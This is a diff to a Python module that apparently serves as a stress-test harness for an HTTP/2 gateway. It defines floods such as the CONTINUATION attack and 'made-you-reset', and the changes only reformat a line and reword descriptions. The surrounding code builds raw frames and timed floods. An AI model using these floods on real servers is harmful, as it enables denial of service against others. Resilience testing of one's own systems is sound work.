@@ -27,7 +27,8 @@ def block(method, path):
     return {"GET": b"\x82", "POST": b"\x83"}[method] + b"\x87" + b"\x01" + string(HOST) + b"\x04" + string(path)
 
 
-SMALL, LARGE, UPLOAD = block("GET", "/bulk/attack/100/length"), block("GET", "/bulk/attack/1000000/length"), block("POST", "/bulk/attack/1/length")
+SMALL, LARGE = block("GET", "/bulk/attack/100/length"), block("GET", "/bulk/attack/1000000/length")
+UPLOAD = block("POST", "/bulk/attack/1/length")
 
 
 def headers(stream, fields, flags=END_HEADERS | END_STREAM):
@@ -66,7 +67,7 @@ async def half_headers(attacker):
     await attacker.hold("h2", 20, 300, H2, headers(1, SMALL, END_STREAM))
 
 
-@attack("continuation", "8 connections, 10 times a second each 100 CONTINUATIONs behind HEADERS without END_HEADERS, empty and of 160 bytes")
+@attack("continuation", "8 connections, 10 times a second each 100 CONTINUATIONs of a header block without end, empty and of 160 bytes")
 async def continuation(attacker):
     field = b"\x00" + string("x") + string(b"y" * 150)
     pieces = [frame(CONTINUATION, stream=1) * 100, frame(CONTINUATION, stream=1, payload=field) * 100]
@@ -105,7 +106,7 @@ async def late_reset(attacker):
     await attacker.flood(4, 10, PREFACE + settings(push=0, window=1 << 20) + frame(WINDOW_UPDATE, payload=number(1 << 30)), batch)
 
 
-@attack("made-you-reset", "4 connections, 10 times a second each 25 requests whose stream the gateway must reset; each connection for another of six reasons")
+@attack("made-you-reset", "4 connections, 10 times a second each 25 streams that the gateway must reset, for another of six reasons each")
 async def made_you_reset(attacker):
     turn = 0
 
